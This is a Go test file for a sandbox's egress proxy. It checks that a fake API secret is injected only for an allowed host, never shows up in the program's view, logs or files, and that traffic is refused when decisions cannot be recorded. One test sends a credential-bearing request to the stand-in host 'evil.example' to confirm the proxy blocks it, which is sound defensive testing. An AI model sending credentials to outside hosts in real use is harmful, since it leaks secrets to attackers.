package egress

import (
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/bulkhead-dev/sandbox/audit/evidence"
	"github.com/bulkhead-dev/sandbox/egress/secret"
	"github.com/bulkhead-dev/sandbox/policy"
	"github.com/bulkhead-dev/sandbox/policy/network"
)

// home resolves every name to the loopback address.
type home struct{}

func (home) LookupNetIP(context.Context, string, string) ([]netip.Addr, error) {
	return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, nil
}

const fakeSecret = "sk-FAKE-0123456789-abcdef-FAKE"

// A recordedProxy is a real proxy with a recorder, and a secret bound to a TLS
// server.
type recordedProxy struct {
	*recordRig
	plane  *Plane
	caller *Caller
	client *http.Client // of a program inside
	server string       // host:port that the secret is bound to
	state  string       // the folder of the authority
	used   chan string  // Authorization fields received by the server
}

func newRecordedProxy(t *testing.T, g *recordRig) *recordedProxy {
	t.Helper()
	p := &recordedProxy{recordRig: g, used: make(chan string, 8), state: t.TempDir()}
	upstream := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		p.used <- r.Header.Get("Authorization")
		w.Header().Set("X-Echo", r.Header.Get("Authorization"))
		fmt.Fprint(w, "you are ", r.Header.Get("Authorization"))
	}))
	t.Cleanup(upstream.Close)
	_, port, err := net.SplitHostPort(upstream.Listener.Addr().String())
	check(t, err)
	p.server = "example.com:" + port
	hosts, err := network.New(network.Options{Allowed: []string{p.server, "127.0.0.1:" + port}})
	check(t, err)
	ours, err := Open(p.state)
	check(t, err)
	binding := secret.Binding{Name: "API_KEY", Hosts: []string{p.server}, From: secret.Source{Env: "OUTER"}}
	set, err := secret.NewSet(t.Context(), []secret.Binding{binding}, secret.Deps{LookupEnv: func(string) (string, bool) { return fakeSecret, true }})
	check(t, err)
	t.Cleanup(func() { set.Close() })
	roots := x509.NewCertPool()
	roots.AddCert(upstream.Certificate())
	p.plane = New(Options{Dialer: NewDialer(DialerOptions{Resolver: home{}}), Record: p.Record, Decide: p.Decide, Roots: roots})
	t.Cleanup(func() { p.plane.Close() })
	l, err := net.Listen("tcp", "127.0.0.1:0")
	check(t, err)
	session, err := p.plane.Open(l, SessionOptions{Sandbox: sbx, Policy: hosts, Secrets: set, Authority: ours})
	check(t, err)
	p.caller = session.Caller("run-1")
	proxy, err := url.Parse(p.caller.Env()["HTTPS_PROXY"])
	check(t, err)
	trusted := x509.NewCertPool()
	trusted.AddCert(ours.Certificate())
	transport := &http.Transport{Proxy: http.ProxyURL(proxy), TLSClientConfig: &tls.Config{RootCAs: trusted}}
	t.Cleanup(transport.CloseIdleConnections)
	p.client = &http.Client{Transport: transport}
	return p
}

func check(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// get requests an address with the stand-in as credentials.
func (p *recordedProxy) get(t *testing.T, address string) (string, error) {
	t.Helper()
	r, err := http.NewRequestWithContext(t.Context(), http.MethodGet, address, nil)
	check(t, err)
	r.Header.Set("Authorization", "Bearer "+p.caller.Env()["API_KEY"])
	answer, err := p.client.Do(r)
	if err != nil {
		return "", err
	}
	defer answer.Body.Close()
	body, err := io.ReadAll(answer.Body)
	check(t, err)
	return fmt.Sprint(answer.StatusCode, " ", string(body), answer.Header), nil
}

// TestRealProxy checks the records of real connections: all decisions in the
// evidence, the refusal among the violations, and the secret nowhere.
func TestRealProxy(t *testing.T) {
	p := newRecordedProxy(t, recordNewRig(t, RecorderOptions{Require: true}, evidence.Options{}))
	said, err := p.get(t, "https://"+p.server+"/v1/me?page=7")
	check(t, err)
	if got := <-p.used; got != "Bearer "+fakeSecret {
		t.Errorf("the server was given %q", got)
	}
	if strings.Contains(said, fakeSecret) || !strings.HasPrefix(said, "200 you are") {
		t.Errorf("the program reads %s", said)
	}
	if _, err := p.get(t, "https://evil.example/v1?page=8"); err == nil || !strings.Contains(err.Error(), "network.allowedDomains") {
		t.Errorf("another host: %v", err)
	}
	refused := p.caller.End()
	check(t, p.plane.Close()) // every connection has ended
	p.flush(t)

	var put, denied bool
	for _, r := range p.proven(t) {
		e := eventOf(t, r)
		if r.Command != "run-1" || r.Session != "chat-42" || r.Tenant != "acme" || e.Caller != "run-1" {
			t.Errorf("it is nobody's: %+v", r)
		}
		put = put || e.Protocol == ProtocolIntercepted && e.Path == "/v1/me" && len(e.Secrets) == 1 && e.Secrets[0] == "API_KEY" && e.Verdict == policy.Allow
		denied = denied || e.Host == "evil.example" && e.Verdict == policy.Deny
	}
	if !put || !denied {
		t.Errorf("the request with the secret is on record: %v; the refusal: %v", put, denied)
	}
	vs := fromEvents(refused)
	if len(vs) != 1 || vs[0].Resource != "evil.example:443" || vs[0].Rule != "network.allowedDomains" {
		t.Errorf("the command is told %+v", vs)
	}
	if got := p.listed(t); len(got) != 1 || got[0].Resource != vs[0].Resource || got[0].Rule != vs[0].Rule || got[0].Program != "curl" {
		t.Errorf("violations %+v", got)
	}
	for _, dir := range append(p.dirs[:], p.state) {
		holdsNone(t, dir, fakeSecret, fakeSecret[8:], url.QueryEscape(fakeSecret), base64.StdEncoding.EncodeToString([]byte(fakeSecret))[:36], "page=")
	}
	if p.log.count(fakeSecret) != 0 {
		t.Error("the log holds the secret")
	}
}

// TestRealProxyRefuses checks that a proxy allows nothing, and inserts no
// secret, while decisions cannot be written, and that it does again once they
// can.
func TestRealProxyRefuses(t *testing.T) {
	g, s := newShaky(t, RecorderOptions{})
	g.Sandbox(sbx, recordWho{Tenant: "acme", Require: true})
	p := newRecordedProxy(t, g)
	s.set(errNoDisk, nil)
	if said, err := p.get(t, "https://"+p.server+"/"); err == nil && !strings.HasPrefix(said, "403") || err != nil && !strings.Contains(err.Error(), "requireEvidence") {
		t.Errorf("off the record: %s, %v", said, err)
	}
	if len(p.used) > 0 {
		t.Error("the server was reached")
	}
	vs := fromEvents(p.caller.Refused())
	if len(vs) != 1 || vs[0].Rule != "requireEvidence" || vs[0].Resource != p.server {
		t.Errorf("the command is told %+v", vs)
	}
	s.set(nil, nil)
	if said, err := p.get(t, "https://"+p.server+"/"); err != nil || !strings.HasPrefix(said, "200") {
		t.Errorf("on the record: %s, %v", said, err)
	}
}

// holdsNone checks that no file below dir contains one of the texts.
func holdsNone(t *testing.T, dir string, texts ...string) {
	t.Helper()
	files := 0
	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		data, err := os.ReadFile(path)
		files++
		for _, text := range texts {
			if bytes.Contains(data, []byte(text)) {
				t.Errorf("%s holds %s", path, text)
			}
		}
		return err
	})
	if err != nil || files == 0 {
		t.Errorf("%d files were looked at, %v", files, err)
	}
}
